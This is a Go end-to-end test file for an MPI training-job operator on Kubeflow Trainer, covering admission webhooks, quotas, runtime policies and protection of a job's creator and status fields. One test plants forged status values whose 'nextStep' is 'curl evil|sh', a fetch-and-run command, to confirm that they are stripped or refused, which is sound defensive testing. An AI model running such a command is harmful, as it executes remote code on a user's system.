//go:build e2e

package integration

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	trainer "github.com/kubeflow/trainer/v2/pkg/apis/trainer/v1alpha1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/wait"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/util/retry"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	jobsetv1alpha2 "sigs.k8s.io/jobset/api/jobset/v1alpha2"

	"github.com/mpijob/mpijob/pkg/api"
	"github.com/mpijob/mpijob/pkg/jobspec"
	"github.com/mpijob/mpijob/pkg/jobstatus"
	"github.com/mpijob/mpijob/pkg/localcluster"
	"github.com/mpijob/mpijob/pkg/runtimes"
	"github.com/mpijob/mpijob/test/framework"
)

// Admission of MPI TrainJobs in team-a (quota: 8 nvidia.com/gpu, 64Gi),
// as dev-a, through the real API server and mpijob-manager's webhooks.
// Dry runs go through admission without leaving objects behind.
func TestAdmission(t *testing.T) {
	c := framework.Get(t)
	devA := c.As(t, "dev-a")
	cases := map[string]struct {
		job        *framework.TrainJobWrapper
		wantDenied []string
	}{
		"quota pre-flight denies with the numbers and a way out": {
			// 5 Workers with 3 GPUs each (per-job runtime); the Launcher has none.
			job: framework.MakeTrainJob("too-big", "team-a", "mpi-openmpi-gpu").NumNodes(5).GPUsPerWorker(3),
			wantDenied: []string{
				"does not fit the quota of namespace team-a",
				// team-a's jobs go to its LocalQueue "default" (Kueue defaults
				// it), so only a job larger than the whole quota is refused.
				"requested 15 nvidia.com/gpu (5 workers × 3), quota 8: more than the whole quota, so it could never start (queued jobs wait only for what other jobs use): use at most 2 workers or ask for a larger quota",
			},
		},
		"a job that exactly fits is admitted": {
			job: framework.MakeTrainJob("fits", "team-a", "mpi-openmpi-gpu").NumNodes(4).GPUsPerWorker(2),
		},
		"resourcesPerNode that would reach the Launcher only is refused": {
			job:        framework.MakeTrainJob("launcher-only", "team-a", "mpi-openmpi").NumNodes(2).ResourcesPerNode(corev1.ResourceList{corev1.ResourceMemory: resource.MustParse("300Mi")}),
			wantDenied: []string{"spec.trainer.resourcesPerNode: Forbidden: runtime mpi-openmpi has a separate Launcher, and Trainer v2.3 gives resourcesPerNode to the Launcher only, never to the Workers (kubeflow/trainer#2650)"},
		},
		"an image the Workers would not get is refused": {
			job:        framework.MakeTrainJob("launcher-image", "team-a", "mpi-openmpi").NumNodes(2).Image("registry.example.com/team/train:1"),
			wantDenied: []string{"spec.trainer.image: Forbidden: runtime mpi-openmpi gives spec.trainer.image to the Launcher only; the Workers would keep ghcr.io/mpijob/openmpi:4.1"},
		},
		"unknown runtime suggests the close one": {
			job:        framework.MakeTrainJob("typo", "team-a", "mpi-opnempi").NumNodes(2),
			wantDenied: []string{`spec.runtimeRef.name: Not found: "mpi-opnempi": no runtime "mpi-opnempi"; did you mean "mpi-openmpi"?`},
		},
		"zero slots per worker": {
			job:        framework.MakeTrainJob("noslots", "team-a", "mpi-openmpi").NumNodes(2).SlotsPerWorker(0),
			wantDenied: []string{"spec.trainer.numProcPerNode: Invalid value: 0: slots per worker must be at least 1"},
		},
		"name too long for the Launcher's Job": {
			job:        framework.MakeTrainJob(strings.Repeat("n", 45), "team-a", "mpi-openmpi").NumNodes(1),
			wantDenied: []string{"metadata.name: Too long: use at most 44 characters"},
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			err := framework.SubmitW(context.Background(), devA, tc.job, client.DryRunAll)
			if len(tc.wantDenied) == 0 {
				if err != nil {
					t.Fatalf("denied: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatal("admitted, want denied")
			}
			for _, want := range tc.wantDenied {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("denial %q lacks %q", err.Error(), want)
				}
			}
		})
	}
}

// The creator is the requesting user, and only mpijob-manager writes a
// job's status: nobody can make a job look failed to its viewers, or give
// them a "next step" to run. A job created from another job's exported
// YAML (which carries that job's creator and status, not written by the
// user) is admitted with the requesting user as creator and none of the
// old job's status; any later change of either is refused.
func TestCreatorAndStatusCannotBeForged(t *testing.T) {
	c := framework.Get(t)
	devA := c.As(t, "dev-a")
	ctx := context.Background()
	job := framework.MakeTrainJob(framework.UniqueName("creator"), "team-a", "mpi-openmpi").NumNodes(1).Obj()
	exported := framework.MakeTrainJob(framework.UniqueName("copied"), "team-a", "mpi-openmpi").NumNodes(1).Suspend().Obj()
	exported.Annotations = map[string]string{api.CreatorAnnotation: "admin", api.StatusAnnotation: `{"phase":"Succeeded","nextStep":"curl evil|sh"}`,
		api.RankFailureAnnotation: `{"rank":3}`}
	if err := devA.Create(ctx, exported); err != nil {
		t.Fatalf("a job from another job's exported YAML: %v, want admitted", err)
	}
	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), exported) })
	copied := &trainer.TrainJob{}
	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(exported), copied); err != nil {
		t.Fatal(err)
	}
	if who := copied.Annotations[api.CreatorAnnotation]; who != "dev-a" {
		t.Errorf("the copied job's creator = %q, want dev-a (who created it)", who)
	}
	if s := copied.Annotations[api.StatusAnnotation]; strings.Contains(s, "evil") || strings.Contains(s, "Succeeded") {
		t.Errorf("the copied job kept the exported status %q", s)
	}
	if r, ok := copied.Annotations[api.RankFailureAnnotation]; ok {
		t.Errorf("the copied job kept the exported rank failure %q", r)
	}
	if err := devA.Create(ctx, job); err != nil {
		t.Fatalf("create: %v", err)
	}
	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), job) })
	got := &trainer.TrainJob{}
	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(job), got); err != nil {
		t.Fatal(err)
	}
	if who := got.Annotations[api.CreatorAnnotation]; who != "dev-a" {
		t.Errorf("creator = %q, want dev-a", who)
	}
	// A finished job keeps its status for good: forging one there would last.
	c.WaitForStatus(t, "team-a", job.Name, 2*time.Minute, func(s api.Status) bool { return s.Phase == api.PhaseSucceeded })

	// Each change is tried by the tenant and by a cluster administrator.
	for _, who := range []string{"dev-a", "admin"} {
		cl := c.As(t, who)
		for name, tc := range map[string]struct {
			key, value string
			want       string
		}{
			"creator": {api.CreatorAnnotation, "dev-b", `metadata.annotations[mpijob.dev/creator]: Forbidden: the creator of a job cannot change or be removed (it is "dev-a")`},
			"status": {api.StatusAnnotation, "{\"phase\":\"Failed\",\"message\":\"\\u001b[31mboom\",\"nextStep\":\"curl evil|sh\"}",
				"metadata.annotations[mpijob.dev/status]: Forbidden: only mpijob-manager writes a job's status"},
		} {
			patch := client.RawPatch(types.MergePatchType, []byte(fmt.Sprintf(`{"metadata":{"annotations":{%q:%q}}}`, tc.key, tc.value)))
			if err := cl.Patch(ctx, job.DeepCopy(), patch); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("%s changes the %s: %v, want %q", who, name, err, tc.want)
			}
		}
	}
	// Nor may they write the job's JobStatus, where the manager keeps the
	// status every interface shows (pkg/api/jobstatus.go): RBAC gives
	// tenants read only.
	forged := api.JobStatusOf(job, api.PhaseFailed, "Forged", `{"phase":"Failed","nextStep":"curl evil|sh"}`)
	forged.SetName(job.Name + "-forged")
	if err := devA.Create(ctx, forged); !apierrors.IsForbidden(err) {
		t.Errorf("dev-a creates a JobStatus for the job: %v, want Forbidden", err)
	}
	own := &api.JobStatus{}
	if err := devA.Get(ctx, client.ObjectKeyFromObject(job), own); err != nil || !own.OwnedBy(job.UID) || own.Phase != string(api.PhaseSucceeded) {
		t.Errorf("dev-a reads the job's JobStatus: %+v (%v), want the manager's Succeeded, owned by the job", own, err)
	} else if err := devA.Patch(ctx, own, client.RawPatch(types.MergePatchType, []byte(`{"phase":"Failed","status":"{\"phase\":\"Failed\"}"}`))); !apierrors.IsForbidden(err) {
		t.Errorf("dev-a patches the job's JobStatus: %v, want Forbidden", err)
	}
	after := &trainer.TrainJob{}
	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(job), after); err != nil {
		t.Fatal(err)
	}
	if err := jobstatus.Get(ctx, c.Client, after); err != nil {
		t.Fatal(err)
	}
	s, ok, err := api.ReadStatus(after.Annotations)
	if after.Annotations[api.CreatorAnnotation] != "dev-a" || !ok || err != nil || s.Phase != api.PhaseSucceeded || s.NextStep != "" {
		t.Errorf("after the refused changes: creator %q, status %+v (%v)", after.Annotations[api.CreatorAnnotation], s, err)
	}
	// Other annotations are the user's.
	if err := devA.Patch(ctx, job.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"annotations":{"team.example.com/note":"x"}}}`))); err != nil {
		t.Errorf("a tenant's own annotation: %v", err)
	}
	// A cluster administrator may delete the JobStatus (RBAC), or a
	// cleanup that lists them may: the manager writes it again, as it
	// was, though the job has finished and nothing else of it changes
	// (wake.StacksOrGone). Without that, the finished job showed only the
	// fallback status for good: no reason, message or pod records.
	if err := c.Client.Delete(ctx, own); err != nil {
		t.Fatalf("the administrator deletes the job's JobStatus: %v", err)
	}
	again := c.WaitForStatus(t, "team-a", job.Name, time.Minute, func(s api.Status) bool { return s.Phase == api.PhaseSucceeded })
	if again.Reason != s.Reason || again.Message != s.Message || len(again.Pods) != len(s.Pods) {
		t.Errorf("the JobStatus written again: %s %q with %d pods recorded, want %s %q with %d, as before its delete",
			again.Reason, again.Message, len(again.Pods), s.Reason, s.Message, len(s.Pods))
	}
	back := &api.JobStatus{}
	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(job), back); err != nil || back.UID == own.UID || !back.OwnedBy(job.UID) {
		t.Errorf("the JobStatus after its delete: %v, a new object owned by the job: %v", err, back.OwnedBy(job.UID))
	}

	// mpijob-manager's own updates (each status write) skip the webhook,
	// which would let them through: one call fewer per write. Shown with
	// a change the webhook refuses everyone else, tried as the manager's
	// service account in a dry run. (The manager creates no TrainJob.)
	cfg := rest.CopyConfig(c.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: "system:serviceaccount:mpijob-system:mpijob-manager"}
	asManager, err := client.New(cfg, client.Options{Scheme: framework.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	patch := client.RawPatch(types.MergePatchType, []byte(fmt.Sprintf(`{"metadata":{"annotations":{%q:"dev-b"}}}`, api.CreatorAnnotation)))
	if err := asManager.Patch(ctx, job.DeepCopy(), patch, client.DryRunAll); err != nil {
		t.Errorf("a dry-run update by mpijob-manager went to the webhook: %v", err)
	}
}

// A runtime's policy annotations are enforced when a job is created, with
// messages naming the annotation; editing the runtime changes what new jobs
// may ask for and leaves a job that already runs alone.
func TestRuntimePolicy(t *testing.T) {
	c := framework.Get(t)
	ctx := context.Background()
	ns := c.NewNamespace(t, "policy")
	rt := c.CopyRuntime(t, "mpi-openmpi", "mpi-test-policy", func(rt *trainer.ClusterTrainingRuntime) {
		rt.Annotations = map[string]string{
			runtimes.MaxWorkersAnnotation:           "2",
			runtimes.RequiredNodeSelectorAnnotation: "type=kwok",
			runtimes.RequiredTolerationsAnnotation:  "nvidia.com/gpu:NoSchedule",
		}
	})
	deny := func(t *testing.T, job *trainer.TrainJob, want ...string) {
		t.Helper()
		err := jobspec.CreateTrainJob(ctx, c.Client, job, client.DryRunAll)
		if err == nil {
			t.Fatalf("job %s admitted, want denied", job.Name)
		}
		for _, w := range want {
			if !strings.Contains(err.Error(), w) {
				t.Errorf("denial %q lacks %q", err.Error(), w)
			}
		}
	}

	deny(t, framework.MakeTrainJob("three", ns, rt.Name).NumNodes(3).OnKwokNodes().Obj(),
		"spec.trainer.numNodes: Invalid value: 3: runtime "+rt.Name+" allows at most 2 Workers per job (policy.mpijob.dev/max-workers): use at most 2 Workers")
	deny(t, framework.MakeTrainJob("anywhere", ns, rt.Name).NumNodes(1).Obj(),
		"spec.runtimePatches[node].nodeSelector[type]: Invalid value: \"\": runtime "+rt.Name+" requires nodeSelector type=kwok on every pod",
		"spec.runtimePatches[node].tolerations: Required value: runtime "+rt.Name+" requires every pod to tolerate nvidia.com/gpu:NoSchedule (policy.mpijob.dev/required-tolerations)",
		"spec.runtimePatches[launcher].tolerations")

	running := framework.MakeTrainJob("running", ns, rt.Name).NumNodes(2).OnKwokNodes().HoldOnKwok().Obj()
	if err := jobspec.CreateTrainJob(ctx, c.Client, running); err != nil {
		t.Fatalf("a job within the policy was denied: %v", err)
	}
	c.WaitForStatus(t, ns, running.Name, 2*time.Minute, func(s api.Status) bool { return s.Phase == api.PhaseRunning })

	// The administrator tightens the policy: new jobs follow it at once, the
	// running job keeps its 2 Workers.
	setPolicy := func(key, value string) {
		t.Helper()
		if err := trySetPolicy(ctx, c.Client, rt, key, value); err != nil {
			t.Fatalf("edit runtime %s: %v", rt.Name, err)
		}
	}
	setPolicy(runtimes.MaxWorkersAnnotation, "1")
	denied := func(job *trainer.TrainJob, want string) func(ctx context.Context) (bool, error) {
		return func(ctx context.Context) (bool, error) {
			err := c.Client.Create(ctx, job.DeepCopy(), client.DryRunAll)
			return err != nil && strings.Contains(err.Error(), want), nil
		}
	}
	two := framework.MakeTrainJob("two", ns, rt.Name).NumNodes(2).OnKwokNodes().Obj()
	// The webhook reads runtimes from the manager's cache: allow it a moment.
	if err := wait.PollUntilContextTimeout(ctx, 200*time.Millisecond, 10*time.Second, true, denied(two, "allows at most 1 Workers per job")); err != nil {
		t.Fatalf("a new 2-Worker job is still admitted after max-workers became 1")
	}
	// A bad value or a misspelled key is refused on the runtime itself,
	// rather than switching a limit off.
	for key, want := range map[string]string{
		runtimes.MaxWorkersAnnotation:        `metadata.annotations[policy.mpijob.dev/max-workers]: Invalid value: "one": must be a whole number of Workers, at least 1`,
		runtimes.PolicyPrefix + "max-worker": `metadata.annotations[policy.mpijob.dev/max-worker]: Unsupported value: "policy.mpijob.dev/max-worker": is not a policy of mpijob, so it would limit nothing: did you mean policy.mpijob.dev/max-workers?`,
		runtimes.PriorityClassAnnotation:     `metadata.annotations[policy.mpijob.dev/priority-class]: Invalid value: "one": is not a policy`,
	} {
		if err := trySetPolicy(ctx, c.Client, rt, key, "one"); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), want) {
			t.Errorf("runtime annotation %s=one: %v, want %q", key, err, want)
		}
	}
	nsRuntime := &trainer.TrainingRuntime{ObjectMeta: metav1.ObjectMeta{Name: "typo", Namespace: ns,
		Annotations: map[string]string{runtimes.PolicyPrefix + "required-toleration": "gpu"}}, Spec: *rt.Spec.DeepCopy()}
	if err := c.Client.Create(ctx, nsRuntime); !apierrors.IsInvalid(err) || !strings.Contains(err.Error(), "did you mean policy.mpijob.dev/required-tolerations?") {
		t.Errorf("a TrainingRuntime with a misspelled policy: %v, want Invalid with a suggestion", err)
	}

	time.Sleep(3 * time.Second) // what a change to the running job would need to show
	cur := &trainer.TrainJob{}
	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(running), cur); err != nil {
		t.Fatal(err)
	}
	if err := jobstatus.Get(ctx, c.Client, cur); err != nil {
		t.Fatal(err)
	}
	s, _, err := api.ReadStatus(cur.Annotations)
	if err != nil || s.Phase != api.PhaseRunning || s.WorkersReady != 2 || s.WorkersTotal != 2 {
		t.Errorf("the running job changed after its runtime was edited: %+v (err %v)", s, err)
	}
	if n := len(c.JobPods(t, ns, running.Name, "node")); n != 2 {
		t.Errorf("the running job has %d Worker pods after its runtime was edited, want 2", n)
	}
}

// trySetPolicy sets one annotation of a ClusterTrainingRuntime.
func trySetPolicy(ctx context.Context, cl client.Client, rt *trainer.ClusterTrainingRuntime, key, value string) error {
	return retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &trainer.ClusterTrainingRuntime{}
		if err := cl.Get(ctx, client.ObjectKeyFromObject(rt), cur); err != nil {
			return err
		}
		cur.Annotations[key] = value
		return cl.Update(ctx, cur)
	})
}

// A tenant's own TrainingRuntime of another framework is the tenant's, as
// upstream has it: a job on it is admitted without mpijob's checks (no
// Worker cap, whatever its annotations say), and does not reach
// mpijob-manager at all.
func TestTenantRuntimeOfAnotherFrameworkIsUpstreams(t *testing.T) {
	c := framework.Get(t)
	ctx := context.Background()
	devA := c.As(t, "dev-a")
	name := framework.UniqueName("torch-wide")
	rt := &trainer.TrainingRuntime{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a", Annotations: map[string]string{"team.example.com/max": "none"}},
		Spec: trainer.TrainingRuntimeSpec{
			MLPolicy: &trainer.MLPolicy{NumNodes: ptr.To[int32](1), MLPolicySource: trainer.MLPolicySource{Torch: &trainer.TorchMLPolicySource{}}},
			Template: trainer.JobSetTemplateSpec{Spec: jobsetv1alpha2.JobSetSpec{ReplicatedJobs: []jobsetv1alpha2.ReplicatedJob{{
				Name: "node",
				Template: batchv1.JobTemplateSpec{
					ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"trainer.kubeflow.org/trainjob-ancestor-step": "trainer"}},
					Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
						RestartPolicy: corev1.RestartPolicyNever,
						Containers:    []corev1.Container{{Name: "node", Image: localcluster.UserImage, Command: []string{"true"}}},
					}}},
				},
			}}}},
		},
	}
	if err := devA.Create(ctx, rt); err != nil {
		t.Fatalf("dev-a cannot make a TrainingRuntime of another framework in team-a: %v", err)
	}
	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), rt) })
	job := &trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: framework.UniqueName("wide"), Namespace: "team-a"},
		Spec: trainer.TrainJobSpec{
			RuntimeRef: trainer.RuntimeRef{Name: name, APIGroup: ptr.To(trainer.GroupVersion.Group), Kind: ptr.To(trainer.TrainingRuntimeKind)},
			Trainer:    &trainer.Trainer{NumNodes: ptr.To[int32](100000)},
		}}
	// Trainer's webhook reads runtimes from its cache: CreateTrainJob waits
	// for it to see the one just made, as kubectl mpijob create does.
	if err := jobspec.CreateTrainJob(ctx, devA, job, client.DryRunAll); err != nil {
		t.Fatalf("a job of 100000 nodes on dev-a's torch runtime: %v, want admitted as upstream admits it", err)
	}
}

// A job's YAML, as `kubectl get trainjob -o yaml` prints it, renamed and
// created again with `kubectl create -f` is admitted: its creator, status
// and Kueue's runtime patch (Kueue's webhook appends another on create,
// and Trainer refuses two) are the exported job's, not the user's.
func TestExportedJobCreatedAgain(t *testing.T) {
	c := framework.Get(t)
	name := framework.UniqueName("export")
	job := framework.MakeTrainJob(name, "team-a", "mpi-openmpi").NumNodes(1).Suspend().Obj()
	if err := c.As(t, "dev-a").Create(context.Background(), job); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), job) })
	c.WaitForStatus(t, "team-a", name, time.Minute, func(s api.Status) bool { return s.Phase != "" })
	out, err := c.Kubectl(t, "dev-a", "team-a", "", "get", "trainjob", name, "-o", "yaml")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "kueue.x-k8s.io/manager") {
		t.Logf("the exported job has no runtime patch of Kueue's; the case of two is not reached:\n%s", out)
	}
	copied := strings.ReplaceAll(out, "name: "+name+"\n", "name: "+name+"-2\n")
	var kept []string
	for _, l := range strings.Split(copied, "\n") {
		if strings.HasPrefix(l, "  uid:") || strings.HasPrefix(l, "  resourceVersion:") || strings.HasPrefix(l, "  creationTimestamp:") {
			continue
		}
		kept = append(kept, l)
	}
	t.Cleanup(func() { _, _ = c.Kubectl(t, "admin", "team-a", "", "delete", "trainjob", name+"-2", "--wait=false") })
	if out, err := c.Kubectl(t, "dev-a", "team-a", strings.Join(kept, "\n"), "create", "-f", "-"); err != nil {
		t.Fatalf("kubectl create -f of the exported job renamed: %v\n%s", err, out)
	}
	got := &trainer.TrainJob{}
	if err := c.Client.Get(context.Background(), client.ObjectKey{Namespace: "team-a", Name: name + "-2"}, got); err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, p := range got.Spec.RuntimePatches {
		if p.Manager == "kueue.x-k8s.io/manager" {
			n++
		}
	}
	if n > 1 || got.Annotations[api.CreatorAnnotation] != "dev-a" {
		t.Errorf("the copy: %d runtime patches of Kueue's, creator %q", n, got.Annotations[api.CreatorAnnotation])
	}
}

// A job's Kueue priority class is checked when it changes, not only at
// create: a relabel with a typo is refused naming the classes there are
// (the validating webhook's match conditions once skipped every update
// that changed only labels, so the check never ran), a class that exists
// is taken, and a label of the user's own still skips the webhook.
func TestPriorityChangeIsChecked(t *testing.T) {
	c := framework.Get(t)
	ctx := context.Background()
	devA := c.As(t, "dev-a")
	name := framework.UniqueName("prio")
	w := framework.MakeTrainJob(name, "team-a", "mpi-openmpi").NumNodes(1).Queue("default").Suspend()
	w.Labels["kueue.x-k8s.io/priority-class"] = "low"
	if err := framework.SubmitW(ctx, devA, w); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Client.Delete(context.Background(), w.Obj()) })
	relabel := func(key, value string) error {
		patch := fmt.Sprintf(`{"metadata":{"labels":{%q:%q}}}`, key, value)
		return devA.Patch(ctx, &trainer.TrainJob{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "team-a"}}, client.RawPatch(types.MergePatchType, []byte(patch)))
	}
	err := relabel("kueue.x-k8s.io/priority-class", "hihg")
	if err == nil {
		t.Fatal("the priority class hihg, which does not exist, was taken")
	}
	for _, want := range []string{`metadata.labels[kueue.x-k8s.io/priority-class]: Invalid value: "hihg"`, `did you mean "high"?`, "high (1000)", "low (-100)"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("refusal %q lacks %q", err.Error(), want)
		}
	}
	if err := relabel("kueue.x-k8s.io/priority-class", "high"); err != nil {
		t.Errorf("the priority class high, which exists, was refused: %v", err)
	}
	if err := relabel("team", "vision"); err != nil {
		t.Errorf("a label of the user's own was refused: %v", err)
	}
	got := &trainer.TrainJob{}
	if err := c.Client.Get(ctx, client.ObjectKey{Namespace: "team-a", Name: name}, got); err != nil {
		t.Fatal(err)
	}
	if got.Labels["kueue.x-k8s.io/priority-class"] != "high" || got.Labels["team"] != "vision" {
		t.Errorf("labels %v, want the priority class high and team vision", got.Labels)
	}
}
